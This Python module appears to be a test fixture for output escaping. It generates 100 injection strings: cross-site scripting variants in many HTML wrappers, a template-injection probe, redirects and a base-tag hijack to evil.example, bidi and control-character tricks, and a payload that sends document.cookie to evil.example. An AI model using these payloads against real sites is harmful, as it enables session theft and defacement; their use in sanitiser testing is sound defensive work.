"""100 strings that try to leave the text they stand in."""

from __future__ import annotations

_PAYLOADS = [
    "alert(1)",
    "document.title='owned'",
    "fetch('//evil.example/'+document.cookie)",
    "window.owned=1",
    "location='https://evil.example'",
]
_SHAPES = [
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT>",
    '"><script>{}</script>',
    "'><script>{}</script>",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "<img src=x onerror={}>",
    '" onmouseover="{}" x="',
    "' onfocus='{}' autofocus='",
    "<svg onload={}>",
    '<a href="javascript:{}">x</a>',
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<details open ontoggle={}>",
    "<form action='javascript:{}'><button>x</button></form>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "{{{{ {} }}}}",
    "{{% for x in ().__class__.__base__.__subclasses__() %}}{}{{% endfor %}}",
    "<!--><script>{}</script>-->",
]
_OTHERS = [
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "\u202egnp.exe\u202c and \u2066hidden\u2069",
    "\u200f\u061c\u200e",
    "a\x00b\x07c\x1b[31m",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "]]><script>window.owned=1</script>",
    "%3Cscript%3Ewindow.owned=1%3C/script%3E",
]
HOSTILE = [shape.format(payload) for shape in _SHAPES for payload in _PAYLOADS] + _OTHERS
assert len(HOSTILE) == 100
